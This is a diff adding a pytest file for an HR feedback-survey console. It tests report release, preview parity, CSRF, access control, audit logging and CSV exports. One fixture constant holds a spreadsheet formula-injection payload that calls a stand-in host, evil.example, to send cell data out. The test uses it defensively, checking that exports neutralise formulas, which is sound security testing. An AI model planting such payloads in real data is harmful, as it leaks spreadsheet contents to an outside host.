@@ -1,0 +1,313 @@
+"""Release in the HR console: scores, the preview as the participant sees it, release to
+all, and the CSV exports."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from types import SimpleNamespace
+
+import pytest
+from sqlalchemy import select
+
+from surveys import cycles
+from surveys.models import AccessToken, Cycle, CycleState, OutboxMessage
+from surveys.scores_csv import SCORES_COLUMNS
+from surveys.tokens import hash_token
+from tests import factories as f
+from tests.surveys.test_reports import build_cycle
+from tests.webapp.console import audit_events, csrf_token, preview_url, sign_in
+from tests.webapp.test_reports import pdf_text
+from webapp.extensions import db, limiter
+
+COMMENT = "Distinctive peer comment 0d4c"
+EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+
+
+@pytest.fixture(autouse=True)
+def _fresh_rate_limits(app):
+    limiter.reset()
+    yield
+    limiter.reset()
+
+
+def _build(app, *, close=True, peers_answering=3, rename=None):
+    """Two participants; member 1 answered by self, manager and peers (one comment each)."""
+    with app.app_context():
+        cycle, participant = build_cycle(
+            db.session, participants=2, peers_answering=peers_answering, comments={"peer": COMMENT}
+        )
+        if rename:
+            participant.employee.name = rename
+        if close:
+            cycles.close_cycle(db.session, cycle)
+        db.session.commit()
+        other = next(p for p in cycle.participants if p.id != participant.id)
+        return SimpleNamespace(
+            id=cycle.id,
+            participant=SimpleNamespace(
+                id=participant.id, cycle_id=cycle.id, name=participant.employee.name
+            ),
+            other=SimpleNamespace(id=other.id, cycle_id=cycle.id, name=other.employee.name),
+        )
+
+
+@pytest.fixture
+def closed(app):
+    return _build(app)
+
+
+def _state(app, cycle_id) -> CycleState:
+    with app.app_context():
+        return db.session.get(Cycle, cycle_id).state
+
+
+def _report_links(app) -> dict[int, str]:
+    """participant id -> raw report token, read back from the outbox."""
+    with app.app_context():
+        found = {}
+        for raw in f.links(db.session, "r"):
+            token = db.session.scalar(
+                select(AccessToken).where(AccessToken.token_hash == hash_token(raw))
+            )
+            found[token.participant_id] = raw
+        return found
+
+
+VERSION = re.compile(r'<p class="version">.*?</p>')
+
+
+def _without_version(text: str) -> str:
+    return "\n".join(
+        line for line in text.splitlines() if not line.startswith(("Version ", "Preview: "))
+    )
+
+
+def _release(client, cycle_id):
+    return client.post(f"/admin/cycles/{cycle_id}/release", data={"confirm": "y"})
+
+
+# -- the release page -----------------------------------------------------------------------
+
+
+def test_release_page_lists_participants_counts_and_shown_groups(app, client, closed):
+    sign_in(app, client)
+    response = client.get(f"/admin/cycles/{closed.id}/release")
+    assert response.status_code == 200
+    page = response.get_data(as_text=True)
+    row = page.split(closed.participant.name, 1)[1].split("</tr>")[0]
+    assert "<td>4 of 4</td>" in row  # manager and three peers; self is not counted here
+    assert "<td>yes</td>" in row
+    assert "Manager (1), Peers (3), All others (4)" in row
+    assert f'href="{preview_url(closed.participant)}"' in row
+    assert f'href="{preview_url(closed.participant, pdf=True)}"' in row
+    quiet = page.split(closed.other.name, 1)[1].split("</tr>")[0]
+    assert "<td>0 of 4</td>" in quiet
+    assert "<td>none</td>" in quiet
+    assert "Release to all 2 participants" in page
+    assert COMMENT not in page
+
+
+def test_release_page_says_which_groups_are_folded_away(app, client):
+    data = _build(app, peers_answering=2)
+    sign_in(app, client)
+    page = client.get(f"/admin/cycles/{data.id}/release").get_data(as_text=True)
+    row = page.split(data.participant.name, 1)[1].split("</tr>")[0]
+    assert "Peers: counted in “All others” only" in row
+    assert "Peers (" not in row
+
+
+def test_release_page_needs_a_closed_cycle(app, client):
+    data = _build(app, close=False)
+    sign_in(app, client)
+    assert client.get(f"/admin/cycles/{data.id}/release").status_code == 403
+    assert _release(client, data.id).status_code == 403
+    assert _state(app, data.id) == CycleState.OPEN
+
+
+# -- preview --------------------------------------------------------------------------------
+
+
+def test_preview_is_exactly_what_the_participant_link_shows(app, client, closed):
+    sign_in(app, client)
+    before = client.get(preview_url(closed.participant))
+    assert before.status_code == 200
+    assert before.headers["Cache-Control"] == "no-store"
+    assert before.headers["Referrer-Policy"] == "no-referrer"
+    preview = before.get_data(as_text=True)
+    preview_pdf = client.get(preview_url(closed.participant, pdf=True))
+    assert preview_pdf.mimetype == "application/pdf"
+
+    assert _release(client, closed.id).status_code == 302
+    token = _report_links(app)[closed.participant.id]
+    seen = client.get(f"/r/{token}").get_data(as_text=True)
+    pdf_link = f"/r/{token}/report.pdf"
+    # Identical but for the PDF link and the line that says which version this is.
+    assert (
+        VERSION.search(preview).group(0) == '<p class="version">Preview: not a released version</p>'
+    )
+    assert VERSION.sub(
+        "", preview.replace(preview_url(closed.participant, pdf=True), pdf_link)
+    ) == (VERSION.sub("", seen))
+    released_pdf = pdf_text(client.get(pdf_link).data)
+    assert "Version 1" in released_pdf
+    assert _without_version(pdf_text(preview_pdf.data)) == _without_version(released_pdf)
+
+    # After release the preview shows the frozen version, still identical.
+    after = client.get(preview_url(closed.participant)).get_data(as_text=True)
+    assert after == seen.replace(pdf_link, preview_url(closed.participant, pdf=True))
+
+
+def test_preview_of_an_open_cycle_shows_the_report_as_it_stands(app, client):
+    data = _build(app, close=False)
+    sign_in(app, client)
+    page = client.get(preview_url(data.participant)).get_data(as_text=True)
+    assert f"Feedback report for {data.participant.name}" in page
+
+
+def test_preview_is_audited_and_scoped_to_its_cycle(app, client, closed):
+    sign_in(app, client)
+    assert client.get(preview_url(closed.participant)).status_code == 200
+    (event,) = audit_events(app, "report.preview")
+    assert event.detail == {"participant": "T1"}
+    with app.app_context():
+        _, team = f.team(db.session, 3, prefix="U")
+        elsewhere = f.launched(db.session, team).id
+    wrong = f"/admin/cycles/{elsewhere}/participants/{closed.participant.id}/report"
+    assert client.get(wrong).status_code == 404
+    assert client.get(f"/admin/cycles/{closed.id}/participants/999999/report").status_code == 404
+
+
+def test_the_old_development_preview_is_gone(app, client, closed):
+    app.config["DEV_PAGES"] = True
+    assert client.get(f"/reports/preview/{closed.participant.id}").status_code == 404
+
+
+def test_signed_out_visitors_get_the_login_page(app, client, closed):
+    for method, url in [
+        ("get", f"/admin/cycles/{closed.id}/release"),
+        ("post", f"/admin/cycles/{closed.id}/release"),
+        ("get", preview_url(closed.participant)),
+        ("get", preview_url(closed.participant, pdf=True)),
+        ("post", f"/admin/cycles/{closed.id}/export/response-rates.csv"),
+        ("post", f"/admin/cycles/{closed.id}/export/scores.csv"),
+    ]:
+        response = getattr(client, method)(url, data={"confirm": "y"})
+        assert response.status_code == 302, url
+        assert response.headers["Location"].startswith("/admin/login"), url
+    assert _state(app, closed.id) == CycleState.CLOSED
+
+
+# -- release to all -------------------------------------------------------------------------
+
+
+def _report_emails(app) -> list[str]:
+    with app.app_context():
+        return list(
+            db.session.scalars(
+                select(OutboxMessage.to_address).where(OutboxMessage.kind == "report")
+            )
+        )
+
+
+def test_release_needs_the_confirmation_box(app, client, closed):
+    sign_in(app, client)
+    response = client.post(f"/admin/cycles/{closed.id}/release", data={})
+    assert response.status_code == 422
+    assert "Tick the box to confirm the release." in response.get_data(as_text=True)
+    assert _state(app, closed.id) == CycleState.CLOSED
+    assert _report_emails(app) == []
+    assert audit_events(app, "cycle.release") == []
+
+
+def test_release_to_all_emails_every_participant_a_report_link(app, client, closed):
+    sign_in(app, client)
+    response = client.post(
+        f"/admin/cycles/{closed.id}/release", data={"confirm": "y"}, follow_redirects=True
+    )
+    page = response.get_data(as_text=True)
+    assert "Released 2 reports; 2 emails with report links queued." in page
+    assert "version 1" in page
+    assert _state(app, closed.id) == CycleState.RELEASED
+    assert sorted(_report_emails(app)) == ["t1@example.com", "t2@example.com"]
+    assert set(_report_links(app)) == {closed.participant.id, closed.other.id}
+    (event,) = audit_events(app, "cycle.release")
+    assert event.detail == {"reports": 2, "emails": 2}
+    # Released once: the form is gone and a second post is refused without side effects.
+    assert "Release to all" not in page
+    again = _release(client, closed.id)
+    assert again.status_code == 422
+    assert len(_report_emails(app)) == 2
+
+
+def test_release_needs_a_csrf_token(app, client, closed):
+    app.config["WTF_CSRF_ENABLED"] = True
+    sign_in(app, client)
+    assert _release(client, closed.id).status_code == 400
+    assert _state(app, closed.id) == CycleState.CLOSED
+    token = csrf_token(client.get(f"/admin/cycles/{closed.id}/release").get_data(as_text=True))
+    response = client.post(
+        f"/admin/cycles/{closed.id}/release", data={"confirm": "y", "csrf_token": token}
+    )
+    assert response.status_code == 302
+    assert _state(app, closed.id) == CycleState.RELEASED
+
+
+# -- exports --------------------------------------------------------------------------------
+
+
+def _rows(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+
+
+def test_exports_are_counts_and_scores_only_with_formulas_neutralised(app, client):
+    data = _build(app, rename=EVIL_NAME)
+    sign_in(app, client)
+    rates = client.post(f"/admin/cycles/{data.id}/export/response-rates.csv")
+    assert rates.status_code == 200
+    assert rates.mimetype == "text/csv"
+    assert "attachment" in rates.headers["Content-Disposition"]
+    table = _rows(rates)
+    assert table[0] == [
+        "employee_id",
+        "participant",
+        "relationship",
+        "invited",
+        "responded",
+        "rate",
+    ]
+    names = {r[1] for r in table[1:]}
+    assert names == {"'" + EVIL_NAME, data.other.name}
+    text = rates.get_data(as_text=True)
+    for rater in ("T Boss", "T Member 3", "T Member 4", "@example.com", COMMENT):
+        assert rater not in text
+
+    scores = client.post(f"/admin/cycles/{data.id}/export/scores.csv")
+    assert scores.status_code == 200
+    table = _rows(scores)
+    assert tuple(table[0]) == SCORES_COLUMNS
+    assert {r[0] for r in table[1:]} == {"T1"}
+    text = scores.get_data(as_text=True)
+    for rater in ("T Boss", "T Member", "@example.com", COMMENT, EVIL_NAME):
+        assert rater not in text
+
+    assert [e.action for e in audit_events(app, "export.response_rates")] == [
+        "export.response_rates"
+    ]
+    assert len(audit_events(app, "export.scores")) == 1
+
+
+def test_scores_export_refused_while_the_cycle_is_open(app, client):
+    data = _build(app, close=False)
+    sign_in(app, client)
+    assert client.post(f"/admin/cycles/{data.id}/export/scores.csv").status_code == 403
+    assert client.post(f"/admin/cycles/{data.id}/export/response-rates.csv").status_code == 200
+    assert audit_events(app, "export.scores") == []
+
+
+def test_exports_need_a_csrf_token(app, client, closed):
+    app.config["WTF_CSRF_ENABLED"] = True
+    sign_in(app, client)
+    assert client.post(f"/admin/cycles/{closed.id}/export/scores.csv").status_code == 400
+    assert audit_events(app, "export.scores") == []
